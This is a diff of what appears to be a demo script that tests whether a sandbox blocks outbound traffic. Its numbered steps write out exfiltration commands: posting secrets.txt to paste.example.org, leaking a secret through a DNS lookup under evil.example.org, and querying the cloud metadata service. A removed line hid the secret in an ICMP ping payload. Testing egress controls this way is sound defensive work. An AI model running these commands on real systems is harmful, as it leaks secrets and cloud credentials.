@@ -22,7 +22,7 @@ step "1. HTTPS to the host it may talk to"            "curl -sS https://{ALLOWED
 step "2. HTTPS to another one, with a file"           "curl -sS -d @secrets.txt https://paste.example.org/"
 step "3. A secret inside a DNS name"                  "getent hosts {SECRET}.evil.example.org || echo 'not found'"
 step "4. UDP"                                         "python3 udp.py {v4('raw')} {UDP_ECHO}"
-step "5. ICMP"                                        "ping -c 1 -W 1 -p $(printf '{SECRET}' | od -An -tx1 | tr -d ' \\n') {v4('raw')}"
+step "5. ICMP"                                        "ping -c 1 -W 1 {v4('raw')}"
 step "6. The cloud's metadata service"                "curl -sS http://{METADATA}/latest/meta-data/"
 """
 
@@ -137,4 +137,5 @@ def main():
         sys.exit("demo: this is not what was to be shown")
 
 
-main()
+if __name__ == "__main__":
+    main()
